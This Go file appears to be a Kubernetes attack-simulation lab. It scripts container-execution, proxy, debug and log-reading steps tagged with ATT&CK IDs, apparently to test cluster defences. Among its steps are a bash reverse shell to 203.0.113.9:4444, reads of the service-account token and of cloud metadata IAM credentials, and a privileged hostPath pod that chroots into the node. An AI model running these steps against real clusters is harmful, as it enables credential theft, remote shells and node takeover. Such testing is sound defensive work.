package attack

import (
	"net/http"
	"slices"
	"strings"
)

// execution are the steps that run something in what runs already.
func execution() []Step {
	return []Step{
		{"A20", "T1609", "commands in a pod, over WebSocket", execWebSocket},
		{"A21", "T1609", "commands in a pod, over SPDY", execSPDY},
		{"A22", "T1609", "commands in pods that are refused or cannot be", execInVain},
		{"A23", "T1609", "commands in a production pod, with text beyond ASCII and many arguments", execProduction},
		{"A24", "T1609", "a pod's main process joined", attachProduction},
		{"A25", "T1090", "tunnels to pods", tunnels},
		{"A26", "T1609", "containers added to pods and to a node for debugging", debug},
		{"A27", "T1609", "a file copied into a pod, a shell started in a new one", copyAndRun},
		{"A28", "T1613", "logs of others' pods", readLogs},
		{"A29", "T1609", "a node's kubelet called through the API server", nodeProxy},
		{"A30", "T1609", "a pod and a service called through the API server", podProxy},
	}
}

func execWebSocket(l *Lab) []act {
	const pod = "sandbox/worker-0"
	return []act{
		l.developer.exec(pod, "id"),
		l.developer.exec(pod, "sh", "-c", "cat /var/run/secrets/kubernetes.io/serviceaccount/token").in("app"),
		l.developer.exec(pod, "bash", "-c", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"),
	}
}

func execSPDY(l *Lab) []act {
	return []act{
		l.developer.exec("sandbox/worker-0", "id").overSPDY(),
		l.developer.exec("sandbox/worker-0", "sh").interactive().overSPDY(),
	}
}

func execInVain(l *Lab) []act {
	const unreachable, missing = http.StatusBadRequest, http.StatusNotFound
	return []act{
		l.developer.exec("ledger/store-0", "id").answers(http.StatusForbidden),
		l.developer.exec("ledger/store-0", "id").overSPDY().answers(http.StatusForbidden),
		l.breakglass.exec("ledger/nothing-there", "id").answers(missing),
		l.breakglass.exec("sandbox/stray", "id").answers(unreachable, missing),
		l.breakglass.exec("sandbox/stray", "id").overSPDY().answers(unreachable, missing),
		l.breakglass.exec("ledger/store-0", "id").in("nothing-there").answers(http.StatusBadRequest),
	}
}

func execProduction(l *Lab) []act {
	const metadata = "wget -qO- http://169.254.169.254/latest/meta-data/iam/security-credentials/ | tee /tmp/✓"
	return []act{
		l.breakglass.exec("ledger/store-0", "sh", "-c", metadata),
		l.breakglass.exec("ledger/store-0", slices.Repeat([]string{strings.Repeat("a", 50)}, 40)...),
	}
}

func attachProduction(l *Lab) []act {
	return []act{
		l.breakglass.attach("ledger/store-0"),
		l.breakglass.attach("ledger/store-0").overSPDY(),
	}
}

func tunnels(l *Lab) []act {
	return []act{
		l.breakglass.forward("ledger/store-0"),
		l.breakglass.forward("ledger/store-0").overSPDY(),
		l.breakglass.forward("sandbox/worker-0"),
	}
}

func debug(l *Lab) []act {
	const added = `{"spec":{"ephemeralContainers":[{"name":"debugger-x2m4k","image":"docker.io/nicolaka/netshoot",` +
		`"command":["sh"],"stdin":true,"tty":true,"targetContainerName":"app"}]}}`
	const privileged = `{"spec":{"ephemeralContainers":[{"name":"debugger-p9d2w","image":"docker.io/nicolaka/netshoot",` +
		`"stdin":true,"tty":true,"securityContext":{"privileged":true}}]}}`
	worker, store := "/api/v1/namespaces/sandbox/pods/worker-0", "/api/v1/namespaces/ledger/pods/store-0"
	return []act{
		l.developer.patch(worker+"/ephemeralcontainers", strategicPatch, added).refused(),
		l.breakglass.patch(store+"/ephemeralcontainers", strategicPatch, privileged).refused(), // by pod security
		l.breakglass.patch(worker+"/ephemeralcontainers", strategicPatch, added),
		l.breakglass.create(pod("default", "node-debugger-c7v5q", shape{
			spec: "nodeName: " + l.nodes[0] + ", hostPID: true, hostNetwork: true, hostIPC: true, " +
				"tolerations: [{operator: Exists}], volumes: [{name: host-root, hostPath: {path: /}}]",
			container: `command: [chroot, /host], stdin: true, tty: true, securityContext: {privileged: true}, ` +
				"volumeMounts: [{name: host-root, mountPath: /host}]",
		})),
		l.breakglass.create(pod("ledger", "store-copy", shape{
			spec:      "shareProcessNamespace: true",
			container: "command: [sleep, 1d]",
		})),
	}
}

func copyAndRun(l *Lab) []act {
	return []act{
		l.developer.exec("sandbox/worker-0", "test", "-d", "/tmp/loot"),
		l.developer.exec("sandbox/worker-0", "tar", "-xmf", "-", "-C", "/tmp"),
		l.developer.create(pod("sandbox", "shell", shape{"restartPolicy: Never", "command: [sh], stdin: true"})),
		l.developer.attach("sandbox/shell").answers(), // it may run already, or not
		l.developer.delete("/api/v1/namespaces/sandbox/pods/shell"),
	}
}

func readLogs(l *Lab) []act {
	const store = "/api/v1/namespaces/ledger/pods/store-0/log?container=store"
	return []act{
		l.breakglass.get(store),
		l.breakglass.get(store + "&follow=true&tailLines=1").briefly(),
		l.breakglass.get("/api/v1/namespaces/sandbox/pods/stray/log").
			answers(http.StatusNotFound, http.StatusBadRequest, http.StatusInternalServerError),
		l.developer.get(store).refused(),
	}
}

func nodeProxy(l *Lab) []act {
	node := "/api/v1/nodes/" + l.nodes[0]
	acts := []act{
		l.developer.get(node + "/proxy/pods").refused(),
		l.breakglass.with(curl).get(node + "/proxy/exec/ledger/store-0/store?command=id&output=1").answers(),
	}
	for _, target := range []string{
		node + "/proxy/pods", node + "/proxy/metrics", node + "/proxy/run/ledger/store-0/store?cmd=id",
		"/api/v1/nodes/https:" + l.nodes[0] + ":10250/proxy/configz", node + ":10255/proxy/",
		"/api/v1/nodes/gone-node/proxy/pods",
	} {
		// The API server calls no node at a loopback address.
		acts = append(acts, l.breakglass.get(target).answers())
	}
	return acts
}

func podProxy(l *Lab) []act {
	const pods, services = "/api/v1/namespaces/sandbox/pods/", "/api/v1/namespaces/sandbox/services/"
	const unreachable, none = http.StatusBadRequest, http.StatusServiceUnavailable
	return []act{
		l.breakglass.get(pods+"idle:8080/proxy/admin?x=1").answers(unreachable, none),
		l.breakglass.get(services+"http:idle:80/proxy/login").answers(unreachable, none),
		l.breakglass.with(curl).request(http.MethodPost, services+"idle/proxy/").
			raw("application/x-www-form-urlencoded", "user=admin").answers(unreachable, none),
	}
}
